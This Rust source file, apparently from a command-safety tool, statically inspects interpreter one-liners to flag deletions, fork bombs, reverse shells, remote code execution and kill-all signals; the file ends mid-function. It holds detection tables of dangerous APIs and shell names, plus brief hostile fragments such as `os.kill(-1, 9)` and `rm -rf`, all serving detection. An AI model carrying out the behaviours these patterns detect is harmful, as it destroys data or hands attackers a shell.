//! What an interpreter one-liner (`python3 -c`, `perl -e`, `node -e`…) does, read heuristically.
//!
//! Nothing is run or parsed. A scanner blanks comments and string literals (keeping offsets) and
//! records each literal's value, so API names are only looked for where they are code:
//! `print("os.remove('/')")` calls nothing. Calls are found by name in per-language tables and
//! their arguments read back: literals, home-directory expressions (`~`), concatenations and
//! path joins of those, and lists of words. Anything else is unknown: `?` as a path,
//! `${UNKNOWN}` in a shell command. A bounded look-back tells whether a fork sits in a loop.
//!
//! Not covered: Perl's quote-like and regex operators (`q()`, `qx{}`, `s///`), Ruby's `%x()`
//! and `%w()`, Lua's long strings, regex literals, `__END__`, and renaming imports other than
//! Python's `as` and `x = require("m")`. Only the first [`MAX_INSPECTED`] bytes are read, all
//! work is bounded, and nothing here panics.

use std::collections::HashMap;
use std::ops::Range;

use Fact::*;
use Value::{List, Text, Unknown};

/// Languages whose inline code is inspected.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Lang {
    Python,
    Perl,
    Ruby,
    Node,
    Php,
    Lua,
}

/// A deletion the code performs.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(super) struct Delete {
    /// The target as a shell path: `~` for the home directory, `/` for the root, a literal path
    /// as written, or `?` when it cannot be told.
    pub target: String,
    pub recursive: bool,
}

/// What the code was seen to do.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub(super) struct CodeFacts {
    pub deletes: Vec<Delete>,
    /// Files opened for writing or appending, as shell paths (same conventions as `Delete`).
    pub writes: Vec<String>,
    /// Forks in a loop: a fork bomb.
    pub fork_loop: bool,
    /// Connects a socket and hands it a shell.
    pub reverse_shell: bool,
    /// Runs code fetched from the network.
    pub remote_exec: bool,
    /// Sends every process a signal (`os.kill(-1, 9)`).
    pub kills_all: bool,
    /// Shell command strings handed to `system`, `subprocess`, `exec`, backticks…; parts only
    /// known at run time (`"rm -rf " + d`) appear as the parameter `${UNKNOWN}`.
    pub shell_commands: Vec<String>,
}

/// Code past this many bytes is not inspected: one-liners are short.
const MAX_INSPECTED: usize = 64 * 1024;
/// How far a look-back or an interpolation reaches.
const MAX_REACH: usize = 4096;
/// Expressions nested deeper than this are unknown.
const MAX_DEPTH: usize = 4;
/// Expressions longer than this (literals aside) are unknown; an argument list without
/// brackets ends at most this far in.
const MAX_EXPR: usize = 512;
/// Marks a closing bracket that closes nothing.
const NONE: usize = usize::MAX;
/// Stands, in evaluated strings, for a part that cannot be told.
const HOLE: &str = "\u{FFFC}";
/// What a [`HOLE`] becomes in a shell command: a parameter the analyzer knows nothing about.
const UNKNOWN: &str = "${UNKNOWN}";
/// Programs that are shells: launching one next to a socket makes a reverse shell.
const SHELLS: &str = "sh bash zsh dash ksh ash mksh csh tcsh fish busybox";
/// Home-directory expressions, as they end once spaces and quotes are dropped.
const HOME: &str = "Path.home() homedir() expanduser(~) expand_path(~) environ[HOME] \
    environ.get(HOME) getenv(HOME) env.HOME env[HOME] ENV[HOME] $ENV{HOME} Dir.home";
/// Calls whose value, as a path, is their first argument's.
const WRAPPERS: &str = "Path expanduser expand_path abspath realpath str";
/// Words that end an argument list without brackets (`system "x" or die`, `fork while 1`).
const STOP_WORDS: &str = "if unless while until or and not for foreach do then end";
/// Words that make their statement or block a loop.
const LOOPS: &str = "while until for foreach loop times each upto forEach setInterval";

/// What a call does. `DeleteFile` deletes recursively given `recursive: true`; the `…Self` facts
/// act on what the call is made on (`Path(…).unlink()`); `Open` writes when its mode (second or
/// `mode=` argument) says so; `FetchUrl` and `Include` count only when given a URL; `Dup`
/// duplicates file descriptors, as reverse shells do with a socket.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Fact {
    DeleteTree,
    DeleteFile,
    DeleteSelf,
    Write,
    WriteSelf,
    Open,
    /// Perl's `open`: files, pipes from and to commands, duplicated handles.
    PerlOpen,
    /// Runs a command: a shell string or a list of words.
    Run,
    Fork,
    Socket,
    Dup,
    Fetch,
    FetchUrl,
    Include,
    Eval,
    /// Sends a signal: to every process when a pid is `-1`.
    Kill,
}

/// Calls by what they do. `m.name` matches `name` called bare or on `m` (or an alias of it),
/// `*.name` matches it called on anything, and a plain `name` only called bare.
type Table = &'static [(Fact, &'static str)];

/// The tables, in the order of [`Lang`].
const TABLES: [Table; 6] = [PYTHON, PERL, RUBY, NODE, PHP, LUA];

const PYTHON: Table = &[
    (DeleteTree, "shutil.rmtree os.removedirs"),
    (DeleteFile, "os.remove os.unlink os.rmdir"),
    (DeleteSelf, "*.unlink *.rmdir"),
    (Open, "open io.open"),
    (WriteSelf, "*.write_text *.write_bytes"),
    (Run, "os.system os.popen pty.spawn subprocess.run"),
    (Run, "subprocess.call subprocess.check_call"),
    (Run, "subprocess.check_output subprocess.Popen"),
    (Fork, "os.fork os.forkpty pty.fork"),
    (Socket, "socket.socket socket.create_connection"),
    (Dup, "os.dup2"),
    (Fetch, "*.urlopen requests.get requests.post"),
    (Eval, "exec eval"),
    (Kill, "os.kill os.killpg"),
];

const PERL: Table = &[
    (DeleteTree, "*.rmtree *.remove_tree"),
    (DeleteFile, "unlink rmdir"),
    (PerlOpen, "open"),
    (Run, "system exec"),
    (Fork, "fork"),
    (Socket, "socket INET.new"),
    (Dup, "*.dup2"),
    (Fetch, "get Simple.get"),
    (Eval, "eval"),
    (Kill, "kill"),
];

const RUBY: Table = &[
    (DeleteTree, "FileUtils.rm_rf FileUtils.rm_r"),
    (DeleteFile, "File.delete File.unlink FileUtils.rm"),
    (Write, "File.write IO.write"),
    (Open, "File.open File.new"),
    (Run, "Kernel.system Process.exec Process.spawn"),
    (Run, "IO.popen Open3.capture2 Open3.popen3"),
    (Fork, "Process.fork"),
    (Socket, "TCPSocket.new TCPSocket.open Socket.tcp"),
    (Dup, "*.reopen"),
    (Fetch, "URI.open HTTP.get HTTP.get_response"),
    (Eval, "eval instance_eval"),
    (Kill, "Process.kill"),
];

const NODE: Table = &[
    (DeleteFile, "*.rmSync *.rmdirSync *.unlinkSync"),
    (DeleteFile, "fs.rm fs.rmdir fs.unlink"),
    (Write, "*.writeFileSync *.appendFileSync"),
    (Write, "fs.writeFile fs.appendFile"),
    (Run, "child_process.exec child_process.spawn"),
    (Run, "*.execSync *.execFileSync *.spawnSync"),
    (Fork, "child_process.fork cluster.fork"),
    (Socket, "net.Socket net.connect tls.connect"),
    (Fetch, "fetch http.get https.get axios.get"),
    (Eval, "eval Function vm.runInThisContext"),
    (Kill, "process.kill"),
];

const PHP: Table = &[
    (DeleteFile, "unlink rmdir"),
    (Write, "file_put_contents"),
    (Open, "fopen"),
    (Run, "exec shell_exec system passthru popen"),
    (Fork, "pcntl_fork"),
    (Socket, "fsockopen socket_create stream_socket_client"),
    (Fetch, "curl_exec"),
    (FetchUrl, "file_get_contents"),
    (Include, "include include_once require require_once"),
    (Eval, "eval"),
    (Kill, "posix_kill"),
];

const LUA: Table = &[
    (DeleteFile, "os.remove"),
    (Open, "io.open"),
    (Run, "os.execute io.popen"),
    (Fork, "*.fork"),
    (Socket, "*.tcp socket.connect"),
    (Fetch, "http.request"),
    (Eval, "load loadstring"),
    (Kill, "posix.kill"),
];

/// Reports what `code`, written in `lang`, does.
pub(super) fn inspect(lang: Lang, code: &str) -> CodeFacts {
    let mut end = MAX_INSPECTED.min(code.len());
    while !code.is_char_boundary(end) {
        end -= 1;
    }
    Inspector::new(lang, &code[..end]).run()
}

fn is_ident(c: u8) -> bool {
    c.is_ascii_alphanumeric() || c == b'_' || c >= 0x80
}

/// Where the run of bytes matching `f` from `i` ends.
fn skip(b: &[u8], mut i: usize, f: impl Fn(u8) -> bool) -> usize {
    while i < b.len() && f(b[i]) {
        i += 1;
    }
    i
}

/// Where the run of bytes matching `f` that ends at `i` starts.
fn skip_back(b: &[u8], mut i: usize, f: impl Fn(u8) -> bool) -> usize {
    while i > 0 && f(b[i - 1]) {
        i -= 1;
    }
    i
}

fn is_space(c: u8) -> bool {
    c == b' ' || c == b'\t'
}

fn has(words: &str, word: &str) -> bool {
    words.split_whitespace().any(|w| w == word)
}

fn closing(open: u8) -> u8 {
    match open {
        b'(' => b')',
        b'[' => b']',
        _ => b'}',
    }
}

/// The index of the bracket closing the one at `open`, not further than [`MAX_REACH`].
fn matching(b: &[u8], open: usize) -> Option<usize> {
    let (o, c, mut depth) = (*b.get(open)?, closing(*b.get(open)?), 0);
    for (k, &x) in b.iter().enumerate().skip(open).take(MAX_REACH) {
        depth += i32::from(x == o) - i32::from(x == c);
        if depth == 0 {
            return Some(k);
        }
    }
    None
}

fn is_home(expr: &str) -> bool {
    let plain: String = expr.chars().filter(|c| !"'\" \t\n".contains(*c)).collect();
    expr.len() <= MAX_EXPR && HOME.split_whitespace().any(|home| plain.ends_with(home))
}

/// What an interpolated expression stands for.
fn home_or_hole(expr: &str) -> &'static str {
    if is_home(expr) {
        "~"
    } else {
        HOLE
    }
}

/// `"node:fs/promises"` → `fs`, `"socket.http"` → `http`.
fn module_name(name: &str) -> String {
    let name = name.trim_start_matches("node:").split('/').next();
    name.and_then(|n| n.rsplit('.').next()).unwrap_or("").into()
}

/// Joins path parts as `os.path.join` does: an absolute part starts over.
fn join_path(base: &str, part: &str) -> String {
    if base.is_empty() || part.starts_with('/') {
        return part.to_string();
    }
    format!("{}/{part}", base.trim_end_matches('/'))
}

/// A word for a command line, quoted where the shell would read it otherwise; unknown parts
/// become a double-quoted `${UNKNOWN}`.
fn shell_word(word: &str) -> String {
    if word.is_empty() {
        return "''".into();
    }
    let plain = |s: &str| {
        s.chars()
            .all(|c| c.is_alphanumeric() || "_-./~=:,+@%^".contains(c))
    };
    let quote = |s: &str| match plain(s) {
        true => s.to_string(),
        false => format!("'{}'", s.replace('\'', r"'\''")),
    };
    let parts: Vec<String> = word.split(HOLE).map(quote).collect();
    parts.join(&format!("\"{UNKNOWN}\""))
}

/// Drops repeated items, keeping the first of each.
fn dedup<T: PartialEq>(items: Vec<T>) -> Vec<T> {
    let mut out = Vec::new();
    for item in items {
        if !out.contains(&item) {
            out.push(item);
        }
    }
    out
}

// ---------------------------------------------------------------------------------------------
// Scanner: literals and comments
// ---------------------------------------------------------------------------------------------

/// How backslashes and interpolations in a literal are read.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Style {
    /// As written: `r"…"`, `<<'EOF'`.
    Raw,
    /// Only `\\` and an escaped quote: single quotes in Perl, Ruby and PHP.
    Single,
    /// Escapes such as `\n` and `\x41`.
    Double,
    /// Escapes and interpolations: `f"{x}"`, `` `${x}` ``, `"#{x}"`, `"$x"`.
    Interp,
}

/// A string literal.
struct Lit {
    /// Where it stands, prefix and quotes included (a heredoc: its `<<TAG`).
    span: Range<usize>,
    /// Escapes read; interpolations of home as `~`, of anything else as [`HOLE`].
    value: String,
    /// Run by a shell where it stands: backticks in Perl, Ruby and PHP.
    run: bool,
}

/// Blanks comments and literal bodies in a copy of the code, and collects the literals.
struct Scanner<'a> {
    lang: Lang,
    src: &'a str,
    code: Vec<u8>,
    lits: Vec<Lit>,
    /// Heredocs whose bodies start on the next line: literal, terminator, style.
    heredocs: Vec<(usize, String, Style)>,
}

impl<'a> Scanner<'a> {
    /// Blanks comments and literal bodies in `src`; returns the blanked code and the literals.
    fn scan(lang: Lang, src: &'a str) -> (Vec<u8>, Vec<Lit>) {
        let code = src.as_bytes().to_vec();
        let (lits, heredocs) = (Vec::new(), Vec::new());
        let mut scanner = Scanner {
            lang,
            src,
            code,
            lits,
            heredocs,
        };
        let mut i = 0;
        while i < src.len() {
            i = scanner.step(i).max(i + 1);
        }
        (scanner.code, scanner.lits)
    }

    fn byte(&self, i: usize) -> u8 {
        self.src.as_bytes().get(i).copied().unwrap_or(0)
    }

    fn text(&self, r: Range<usize>) -> &str {
        self.src.get(r).unwrap_or("")
    }

    /// Handles what starts at `i`; returns where scanning goes on.
    fn step(&mut self, i: usize) -> usize {
        use Lang::*;
        let (c, next, lang) = (self.byte(i), self.byte(i + 1), self.lang);
        let hash = !matches!(lang, Node | Lua) && (i == 0 || self.byte(i - 1) != b'$');
        let slash = matches!(lang, Node | Php) && c == b'/';
        match c {
            b'\n' if !self.heredocs.is_empty() => self.heredoc_bodies(i + 1),
            b'#' if hash => self.comment(i, "\n"),
            b'/' if slash && next == b'/' => self.comment(i, "\n"),
            b'/' if slash && next == b'*' => self.comment(i, "*/"),
            b'-' if lang == Lua && next == b'-' => self.comment(i, "\n"),
            b'\'' | b'"' | b'`' => self.quoted(i, i),
            b'<' if next == b'<' => self.heredoc(i),
            _ if is_ident(c) => self.word(i),
            _ => i + 1,
        }
    }

    fn blank(&mut self, r: Range<usize>) {
        let end = r.end.min(self.code.len());
        let body = &mut self.code[r.start.min(end)..end];
        body.iter_mut()
            .filter(|b| **b != b'\n')
            .for_each(|b| *b = b' ');
    }

    /// Blanks a comment from `i` to the end of `end` (a line comment keeps its newline).
    fn comment(&mut self, i: usize, end: &str) -> usize {
        let from = i + end.len();
        let found = self.src.get(from..).and_then(|rest| rest.find(end));
        let stop = found.map_or(self.src.len(), |k| from + k + end.trim().len());
        self.blank(i..stop);
        stop
    }

    /// A quoted literal whose quote is at `quote`, after a Python prefix such as `r` or `f`.
    fn quoted(&mut self, start: usize, quote: usize) -> usize {
        let q = self.byte(quote);
        let prefix = self.text(start..quote).to_ascii_lowercase();
        let quotes = (q as char).to_string();
        let triple = self.lang == Lang::Python && self.text(quote..quote + 3) == quotes.repeat(3);
        let close = quotes.repeat(if triple { 3 } else { 1 });
        let style = match (self.lang, q) {
            _ if prefix.contains('r') => Style::Raw,
            _ if prefix.contains('f') => Style::Interp,
            (Lang::Python | Lang::Lua, _) | (Lang::Node, b'\'' | b'"') => Style::Double,
            (_, b'\'') => Style::Single,
            _ => Style::Interp,
        };
        let run = q == b'`' && matches!(self.lang, Lang::Perl | Lang::Ruby | Lang::Php);
        let body = quote + close.len();
        let (value, len) = read_body(self.lang, self.text(body..self.src.len()), &close, style);
        self.blank(body..body + len);
        let end = (body + len + close.len()).min(self.src.len());
        let span = start..end;
        self.lits.push(Lit { span, value, run });
        end
    }

    /// A word; in Python, a string prefix (`r`, `f`, `rb`…) when a quote follows.
    fn word(&mut self, i: usize) -> usize {
        let end = skip(self.src.as_bytes(), i, is_ident);
        let prefix = self.text(i..end).chars().all(|c| "rbfuRBFU".contains(c));
        let quoted = matches!(self.byte(end), b'\'' | b'"') && end - i <= 2;
        match self.lang == Lang::Python && quoted && prefix {
            true => self.quoted(i, end),
            false => end,
        }
    }

    /// A heredoc's `<<TAG` (`<<~TAG`, `<<'TAG'`, PHP's `<<<TAG`); its body is read at the
    /// next line.
    fn heredoc(&mut self, i: usize) -> usize {
        let php = self.lang == Lang::Php && self.byte(i + 2) == b'<';
        let mut tag = i + 2 + usize::from(php || b"~-".contains(&self.byte(i + 2)));
        let quote = self.byte(tag);
        let quoted = b"'\"`".contains(&quote);
        tag += usize::from(quoted);
        let word = |c: u8| c.is_ascii_alphanumeric() || c == b'_';
        let end = skip(self.src.as_bytes(), tag, word);
        let ok = (php || matches!(self.lang, Lang::Perl | Lang::Ruby)) && end > tag;
        if !ok || self.byte(tag).is_ascii_digit() || quoted && self.byte(end) != quote {
            return i + 2;
        }
        let style = match quote {
            b'\'' => Style::Raw,
            _ => Style::Interp,
        };
        let name = self.text(tag..end).to_string();
        self.heredocs.push((self.lits.len(), name, style));
        let (span, value) = (i..end + usize::from(quoted), String::new());
        let end = span.end;
        self.lits.push(Lit {
            span,
            value,
            run: quote == b'`',
        });
        end
    }

    /// Reads the pending heredoc bodies from the line at `from`; returns the end of the last
    /// terminator line.
    fn heredoc_bodies(&mut self, mut from: usize) -> usize {
        let src = self.src;
        let line_end = |i: usize| {
            src.get(i..)
                .and_then(|r| r.find('\n'))
                .map_or(src.len(), |k| i + k)
        };
        let ident = |c: char| c.is_alphanumeric() || c == '_';
        for (lit, tag, style) in std::mem::take(&mut self.heredocs) {
            let mut line = from;
            while line < src.len() {
                let end = line_end(line);
                let text = self.text(line..end).trim();
                if text
                    .strip_prefix(tag.as_str())
                    .is_some_and(|r| !r.starts_with(ident))
                {
                    break;
                }
                line = end + 1;
            }
            let line = line.min(src.len());
            self.lits[lit].value = read_body(self.lang, self.text(from..line), "", style).0;
            let end = line_end(line);
            self.blank(from..end);
            from = end + 1;
        }
        from - 1
    }
}

/// Reads a literal's body up to an unescaped `close` (all of `s` when `close` is empty): its
/// value and the body's length.
fn read_body(lang: Lang, s: &str, close: &str, style: Style) -> (String, usize) {
    let (mut value, mut rest) = (String::new(), s);
    while let Some(c) = rest.chars().next() {
        if !close.is_empty() && rest.starts_with(close) {
            break;
        }
        let interpolated = (style == Style::Interp).then(|| interpolation(lang, rest));
        if let Some((piece, len)) = interpolated.flatten() {
            value.push_str(piece);
            rest = rest.get(len..).unwrap_or("");
            continue;
        }
        rest = &rest[c.len_utf8()..];
        let Some(e) = rest.chars().next().filter(|_| c == '\\') else {
            value.push(c);
            continue;
        };
        rest = &rest[e.len_utf8()..];
        let hex = rest.get(..2).and_then(|h| u8::from_str_radix(h, 16).ok());
        match (style, e, hex) {
            (Style::Raw, ..) => value.extend([c, e]),
            (Style::Single, ..) if e != '\\' && !close.starts_with(e) => value.extend([c, e]),
            (Style::Single, ..) => value.push(e),
            (_, 'x', Some(byte)) => {
                value.push(char::from(byte));
                rest = &rest[2..];
            }
            (_, 'n', _) => value.push('\n'),
            (_, 't', _) => value.push('\t'),
            (_, 'r', _) => value.push('\r'),
            _ => value.push(e),
        }
    }
    (value, s.len() - rest.len())
}

/// An interpolation at the start of `rest` (`{x}`, `${x}`, `#{x}`, `{$x}`, `$x`, `$ENV{HOME}`):
/// `~` when it names the home directory, else a [`HOLE`]; and its length.
fn interpolation(lang: Lang, rest: &str) -> Option<(&str, usize)> {
    use Lang::*;
    let b = rest.as_bytes();
    let (open, from) = match lang {
        Python if rest.starts_with("{{") || rest.starts_with("}}") => return Some((&rest[..1], 2)),
        Python if rest.starts_with('{') => (0, 1),
        Node | Perl | Php if rest.starts_with("${") => (1, 2),
        Ruby if rest.starts_with("#{") => (1, 2),
        Php if rest.starts_with("{$") => (0, 1),
        Perl | Php if rest.starts_with('$') && b.get(1).is_some_and(|&c| is_ident(c)) => {
            let name = skip(b, 1, is_ident);
            let subscript = matches!(b.get(name), Some(b'{' | b'[')).then(|| matching(b, name));
            let end = subscript.flatten().map_or(name, |k| k + 1);
            return Some((home_or_hole(&rest[..end]), end));
        }
        _ => return None,
    };
    let close = matching(b, open)?;
    Some((home_or_hole(rest.get(from..close)?), close + 1))
}

// ---------------------------------------------------------------------------------------------
// Inspector: calls, their arguments, and what they add up to
// ---------------------------------------------------------------------------------------------

/// Each bracket's partner in `code`: the end for an unclosed one, [`NONE`] for a stray closer.
fn partners(code: &[u8]) -> Vec<usize> {
    let (mut partner, mut open) = (vec![NONE; code.len()], Vec::new());
    for (i, &c) in code.iter().enumerate() {
        if b"([{".contains(&c) {
            open.push(i);
        } else if open.last().is_some_and(|&o| closing(code[o]) == c) {
            let o = open.pop().unwrap_or_default();
            (partner[o], partner[i]) = (i, o);
        }
    }
    open.iter().for_each(|&o| partner[o] = code.len());
    partner
}

/// What an expression is known to be.
#[derive(Debug, Clone)]
enum Value {
    /// A string, with [`HOLE`]s for the parts that cannot be told.
    Text(String),
    List(Vec<Value>),
    Unknown,
}

impl Value {
    /// As a path: the string when known in full, else `?`.
    fn path(&self) -> String {
        match self {
            Text(t) if !t.is_empty() && !t.contains(HOLE) => t.clone(),
            _ => "?".into(),
        }
    }

    fn text(&self) -> String {
        match self {
            Text(t) => t.clone(),
            _ => HOLE.into(),
        }
    }
}

/// A call found in the code.
struct Call {
    name: Range<usize>,
    /// What it is called on: `Path("x")` in `Path("x").unlink()`.
    on: Option<Range<usize>>,
    args: Vec<Range<usize>>,
}

/// Finds the calls in scanned code and adds up what they do.
struct Inspector<'a> {
    lang: Lang,
    src: &'a str,
    /// The code with literal bodies and comments blanked.
    code: Vec<u8>,
    lits: Vec<Lit>,
    /// Each bracket's partner (see [`partners`]).
    partner: Vec<usize>,
    /// Names bound to modules or functions: `sp` for `import subprocess as sp`.
    aliases: HashMap<String, String>,
    facts: CodeFacts,
    /// Shell commands and where they stand.
    commands: Vec<(usize, String)>,
    forks: Vec<Range<usize>>,
    /// Seen anywhere: a socket; a shell launched (or a command built at run time); duplicated
    /// descriptors; a fetch; code evaluated that is not a literal.
    socket: bool,
    shell: bool,
    dup: bool,
    fetch: bool,
    eval: bool,
}

impl<'a> Inspector<'a> {
    fn new(lang: Lang, src: &'a str) -> Self {
        let (code, lits) = Scanner::scan(lang, src);
        let partner = partners(&code);
        let mut inspector = Inspector {
            lang,
            src,
            code,
            lits,
            partner,
            aliases: HashMap::new(),
            facts: CodeFacts::default(),
            commands: Vec::new(),
            forks: Vec::new(),
            socket: false,
            shell: false,
            dup: false,
            fetch: false,
            eval: false,
        };
        let words: Vec<Range<usize>> = inspector.words(0..src.len()).collect();
        let aliases = words.into_iter().filter_map(|w| inspector.alias(w));
        inspector.aliases = aliases.collect();
        inspector
    }

    fn run(mut self) -> CodeFacts {
        let lits = self.lits.iter().filter(|lit| lit.run);
        let commands: Vec<_> = lits.map(|l| (l.span.start, l.value.clone())).collect();
        for (at, command) in commands {
            self.launch(at, &command);
        }
        let words: Vec<Range<usize>> = self.words(0..self.code.len()).collect();
        for word in words {
            self.word(word);
        }
        let mut facts = std::mem::take(&mut self.facts);
        facts.fork_loop = self.forks.iter().any(|fork| self.in_loop(fork.clone()));
        facts.reverse_shell = self.socket && (self.shell || self.dup);
        facts.remote_exec = self.fetch && self.eval;
        self.commands.sort_by_key(|(at, _)| *at);
        facts.shell_commands = dedup(self.commands.into_iter().map(|(_, c)| c).collect());
        facts.deletes = dedup(facts.deletes);
        facts.writes = dedup(facts.writes);
        facts
    }

    fn text(&self, r: Range<usize>) -> &'a str {
        self.src.get(r).unwrap_or("")
    }

    fn word_start(&self, end: usize) -> usize {
        skip_back(&self.code, end, is_ident)
    }

    fn trim(&self, r: Range<usize>) -> Range<usize> {
        let end = r.end.min(self.code.len());
        let start = skip(&self.code[..end], r.start, |c| c.is_ascii_whitespace()).min(end);
        start..skip_back(&self.code[..end], end, |c| c.is_ascii_whitespace()).max(start)
    }

    /// The words (names, numbers) in `r`.
    fn words(&self, r: Range<usize>) -> impl Iterator<Item = Range<usize>> + '_ {
        let (mut i, end) = (r.start, r.end.min(self.code.len()));
        std::iter::from_fn(move || {
            i = skip(&self.code[..end], i, |c| !is_ident(c));
            let start = i;
            i = skip(&self.code, i, is_ident);
            (start < end).then_some(start..i)
        })
    }

    fn has_word(&self, r: Range<usize>, words: &str) -> bool {
        self.words(r).any(|w| has(words, self.text(w)))
    }

    fn lit_starting(&self, at: usize) -> Option<&Lit> {
        let k = self.lits.binary_search_by_key(&at, |l| l.span.start);
        self.lits.get(k.ok()?)
    }

    /// The literal that is exactly `r`.
    fn lit_at(&self, r: &Range<usize>) -> Option<&Lit> {
        self.lit_starting(r.start).filter(|l| l.span.end == r.end)
    }

    /// The module a `require("m")` (or `__import__("m")`) whose name ends at `end` loads.
    fn module_after(&self, end: usize) -> Option<String> {
        let open = skip(&self.code, end, is_space);
        let paren = usize::from(self.code.get(open) == Some(&b'('));
        let at = skip(&self.code, open + paren, is_space);
        let callee = self.text(self.word_start(end)..end);
        let lit = self
            .lit_starting(at)
            .filter(|_| has("require __import__", callee))?;
        Some(module_name(&lit.value))
    }

    /// An alias the word at `w` binds: Python's `import m as x` and `from m import f as x`;
    /// `x = require("m")` in Node and Lua.
    fn alias(&self, w: Range<usize>) -> Option<(String, String)> {
        let before = skip_back(&self.code, w.start, is_space);
        let after = skip(&self.code, w.end, is_space);
        let (name, original) = match self.text(w.clone()) {
            "as" if self.lang == Lang::Python => {
                let name = self.text(after..skip(&self.code, after, is_ident));
                (name, self.text(self.word_start(before)..before).to_string())
            }
            "require" if before > 1 && self.code[before - 1] == b'=' => {
                let end = skip_back(&self.code, before - 1, is_space);
                let assigned = !b"=!<>".contains(&self.code[before - 2]);
                let name = self.text(self.word_start(end)..end);
                (if assigned { name } else { "" }, self.module_after(w.end)?)
            }
            _ => return None,
        };
        (!name.is_empty() && !original.is_empty()).then(|| (name.to_string(), original))
    }

    /// Looks the word at `name` up as a call and applies what the call does.
    fn word(&mut self, name: Range<usize>) {
        let sigil = name.start > 0 && b"$@".contains(&self.code[name.start - 1]);
        if sigil || self.code[name.start].is_ascii_digit() {
            return;
        }
        let sep = self.member_separator(name.start);
        let qualifier = sep.map(|sep| self.qualifier(sep));
        let fact = self.lookup(self.text(name.clone()), qualifier.as_deref());
        let args = fact.and_then(|_| self.arguments(name.end));
        if let (Some(fact), Some(args)) = (fact, args) {
            let on = sep.map(|sep| self.receiver_start(sep)..sep);
            self.apply(fact, &Call { name, on, args });
        }
    }

    /// What the call `name` on `qualifier` (`None`: called bare) does.
    fn lookup(&self, name: &str, qualifier: Option<&str>) -> Option<Fact> {
        let name = match qualifier {
            None => self.aliases.get(name).map_or(name, String::as_str),
            Some(_) => name,
        };
        let matches = |pattern: &str| {
            let (module, called) = pattern.rsplit_once('.').unzip();
            called.unwrap_or(pattern) == name
                && match (module, qualifier) {
                    (_, None) => true,
                    (Some(m), Some(q)) => m == "*" || m == q,
                    (None, Some(_)) => false,
                }
        };
        let found = |(fact, names): &(Fact, &str)| names.split(' ').any(matches).then_some(*fact);
        TABLES[self.lang as usize].iter().find_map(found)
    }

    /// Where the `.`, `::`, `->` (or Lua's `:`) before a member name starts.
    fn member_separator(&self, start: usize) -> Option<usize> {
        let before = &self.code[start.saturating_sub(2)..start];
        if before.ends_with(b"::") || before.ends_with(b"->") {
            return Some(start - 2);
        }
        let dot = before.ends_with(b".") && !before.ends_with(b"..");
        let member = match self.lang {
            Lang::Perl | Lang::Php => false,
            Lang::Lua => dot || before.ends_with(b":"),
            _ => dot,
        };
        member.then(|| start - 1)
    }

    /// What a member is taken from: a module (through its alias), the module a `require("m")`
    /// loads, or "" for anything else.
    fn qualifier(&self, sep: usize) -> String {
        if sep > 0 && self.code[sep - 1] == b')' && self.partner[sep - 1] < sep {
            return self.module_after(self.partner[sep - 1]).unwrap_or_default();
        }
        let word = self.text(self.word_start(sep)..sep);
        self.aliases
            .get(word)
            .map_or(word, String::as_str)
            .to_string()
    }

    /// Where the expression before a member separator starts: `Path("x")` in
    /// `Path("x").unlink`.
    fn receiver_start(&self, mut i: usize) -> usize {
        for _ in 0..64 {
            match i.checked_sub(1).map(|k| self.code[k]) {
                Some(b')' | b']') if self.partner[i - 1] < i => i = self.partner[i - 1],
                Some(c) if is_ident(c) => i = self.word_start(i),
                Some(b'.' | b':') => i -= 1,
                _ => break,
            }
        }
        i
    }

    /// The arguments of a name ending at `end`: in parentheses or, in Perl, Ruby, PHP and Lua
    /// (a literal only), without them. `None` when the name is not called.
    fn arguments(&self, end: usize) -> Option<Vec<Range<usize>>> {
        let at = skip(&self.code, end, is_space);
        if self.code.get(at) == Some(&b'(') {
            return Some(self.split(at + 1..self.partner[at]));
        }
        let bare = matches!(self.lang, Lang::Perl | Lang::Ruby | Lang::Php);
        let word = self.text(at..skip(&self.code, at, is_ident));
        let argument = match self.code.get(at) {
            Some(b'$' | b'@' | b'-' | b'[') => bare,
            Some(&c) if is_ident(c) => bare && !has(STOP_WORDS, word),
            _ => self.lit_starting(at).is_some() && (bare || self.lang == Lang::Lua),
        };
        if argument && (at > end || !bare) {
            return Some(self.split(at..self.bare_end(at)));
        }
        matches!(self.lang, Lang::Perl | Lang::Ruby).then(Vec::new)
    }

    /// Where arguments without brackets end: at the end of the statement, a block, a closing
    /// bracket, `||`, `&&`, or a word such as `or` and `if`.
    fn bare_end(&self, at: usize) -> usize {
        let (limit, mut i) = ((at + MAX_EXPR).min(self.code.len()), at);
        while i < limit {
            if let Some(lit) = self.lit_starting(i) {
                i = lit.span.end;
                continue;
            }
            let subscript = i > at && is_ident(self.code[i - 1]);
            match self.code[i] {
                b'(' | b'[' => i = self.partner[i] + 1,
                b'{' if subscript => i = self.partner[i] + 1,
                b';' | b'\n' | b'{' | b')' | b']' | b'}' | b'|' | b'&' => break,
                c if is_ident(c) => {
                    let end = skip(&self.code, i, is_ident);
                    if i > at && has(STOP_WORDS, self.text(i..end)) {
                        break;
                    }
                    i = end;
                }
                _ => i += 1,
            }
        }
        i.min(self.code.len())
    }

    /// Splits `r` at its top-level commas; each part trimmed, empty ones dropped.
    fn split(&self, r: Range<usize>) -> Vec<Range<usize>> {
        let end = r.end.min(self.code.len());
        let (mut parts, mut start, mut i) = (Vec::new(), r.start, r.start);
        while i < end {
            match self.code[i] {
                b'(' | b'[' | b'{' => i = self.partner[i],
                b',' => {
                    parts.push(self.trim(start..i));
                    start = i + 1;
                }
                _ => {}
            }
            i += 1;
        }
        parts.push(self.trim(start..end));
        parts.into_iter().filter(|part| !part.is_empty()).collect()
    }

    fn arg(&self, call: &Call, n: usize) -> Option<Value> {
        call.args.get(n).map(|r| self.value(r.clone(), 0))
    }

    /// Evaluates the expression at `r`: a literal, home, a concatenation or path join of such
    /// parts, a list, or a call that joins or wraps paths.
    fn value(&self, r: Range<usize>, depth: usize) -> Value {
        let r = self.trim(r);
        if let Some(lit) = self.lit_at(&r) {
            return Text(lit.value.clone());
        }
        if depth > MAX_DEPTH || r.is_empty() || r.len() > MAX_EXPR {
            return Unknown;
        }
        let parts = self.operands(r.clone());
        if parts.len() > 1 {
            let parts = parts.into_iter();
            let values: Vec<_> = parts
                .map(|(path, p)| (path, self.value(p, depth + 1)))
                .collect();
            if values.iter().all(|(_, v)| matches!(v, Unknown)) {
                return Unknown;
            }
            let join = |out: String, (path, v): &(bool, Value)| match path {
